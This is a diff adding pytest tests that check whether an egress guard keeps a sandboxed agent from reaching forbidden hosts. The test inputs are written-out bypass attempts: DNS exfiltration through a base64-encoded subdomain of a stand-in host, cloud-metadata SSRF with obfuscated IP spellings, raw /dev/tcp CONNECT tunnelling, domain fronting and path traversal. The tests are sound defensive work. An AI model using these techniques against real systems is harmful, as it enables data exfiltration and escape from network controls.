@@ -1,0 +1,82 @@
+"""What the guard lets through, and what it must not, seen from the agent."""
+
+import world as world_module
+
+
+def test_an_allowed_host_answers_and_a_forbidden_one_does_not(world, operator, runtime):
+    session = operator.start(
+        "curl -sS -m 20 https://allowed.example.org/hello; curl -sS -m 20 https://forbidden.example.net/; echo \"exit $?\"", runtime=runtime)
+    assert "hello from allowed.example.org" in session.out, session.explain()
+    assert "hello from forbidden" not in session.out and "exit 0" not in session.out
+    assert [r["path"] for r in world.seen("allowed.example.org", session.since)] == ["/hello"]
+    assert world.seen("forbidden.example.net", session.since) == []
+    assert session.denials("forbidden.example.net"), session.audit()
+    assert "forbidden.example.net" in session.err, "the report at the end names what was blocked"
+
+
+def test_a_forbidden_name_is_never_looked_up(world, operator):
+    name = "c2VjcmV0.exfil.example.net"
+    session = operator.start(
+        "curl -sS -m 10 https://%s/; curl -sS -m 10 http://%s/; getent hosts %s; curl --noproxy '*' -sS -m 10 https://%s/; true" % ((name,) * 4))
+    assert session.status == 0, session.explain()
+    assert name.lower() not in world.names_asked(session.since)
+
+
+def test_plain_http_follows_the_same_rules(world, operator):
+    session = operator.start(
+        "curl -sS -m 20 http://allowed.example.org/plain; curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' http://forbidden.example.net/")
+    assert "hello from allowed.example.org" in session.out, session.explain()
+    assert "403" in session.out
+    assert world.seen("forbidden.example.net", session.since) == []
+
+
+def test_allowed_names_with_special_addresses_are_refused(world, operator):
+    names = list(world_module.REBOUND)
+    script = "".join("curl -sS -m 10 -k https://%s/; curl -sS -m 10 http://%s/; " % (n, n) for n in names) + "true"
+    session = operator.start(script, egress={"allow": names})
+    assert "CANARY" not in session.out, session.explain()
+    for name in names:
+        assert session.denials(name), session.audit()
+
+
+def test_raw_addresses_are_refused_in_every_spelling(operator):
+    spellings = ["169.254.169.254", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "[::ffff:169.254.169.254]", "127.0.0.1", "127.1",
+                 "localhost", "0", "[::1]", "[64:ff9b::a9fe:a9fe]", "203.0.113.2", "1.1.1.1"]
+    script = "for to in %s; do for scheme in http https; do curl -g -k -sS -m 8 --proxy \"$https_proxy\" $scheme://$to/ && echo REACHED $to; done; done; true" % (
+        " ".join("'%s'" % s for s in spellings))
+    session = operator.start(script, egress={"allow": ["*"]})
+    assert session.status == 0, session.explain()
+    assert "CANARY" not in session.out
+
+
+def test_methods_and_paths_are_kept(world, operator):
+    rule = {"host": "inspected.example.org", "methods": ["GET"], "paths": ["/ok/**"]}
+    session = operator.start(
+        "for a in '-X GET https://inspected.example.org/ok/a' '-X POST https://inspected.example.org/ok/b' 'https://inspected.example.org/no' "
+        "'--path-as-is https://inspected.example.org/ok/../no' 'https://inspected.example.org/ok/%2e%2e/no'; do "
+        "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' $a; done", egress={"allow": [rule]})
+    assert session.out.split()[:3] == ["200", "403", "403"], session.explain()
+    assert [(r["method"], r["path"]) for r in world.seen("inspected.example.org", session.since)] == [("GET", "/ok/a")]
+
+
+def test_a_tunnel_carries_tls_to_its_own_host_only(world, operator):
+    script = r"""
+hostport=${https_proxy#http://}; hostport=${hostport%/}; guard=${hostport%:*}; port=${hostport##*:}
+exec 3<>/dev/tcp/$guard/$port
+printf 'CONNECT allowed.example.org:443 HTTP/1.1\r\nHost: allowed.example.org:443\r\n\r\n' >&3
+read -t 10 line <&3; echo "connect: $line"
+printf 'GET /not-tls HTTP/1.1\r\nHost: allowed.example.org\r\n\r\n' >&3
+timeout 10 cat <&3 >/dev/null; exec 3>&-
+curl -sS -m 10 -k --connect-to forbidden.example.net:443:allowed.example.org:443 https://forbidden.example.net/fronted
+curl -sS -m 10 -k -o /dev/null -w 'port %{http_code}\n' https://allowed.example.org:2375/
+true
+"""
+    session = operator.start(script)
+    assert session.status == 0, session.explain()
+    assert world.seen("allowed.example.org", session.since) == []
+
+
+def test_a_download_passes_whole_with_inspection_on(operator):
+    session = operator.start("curl -sS -m 100 https://inspected.example.org/bytes/50000000 | wc -c",
+                             egress={"allow": [{"host": "inspected.example.org", "inspect": True}]})
+    assert session.out.split() == ["50000000"], session.explain()
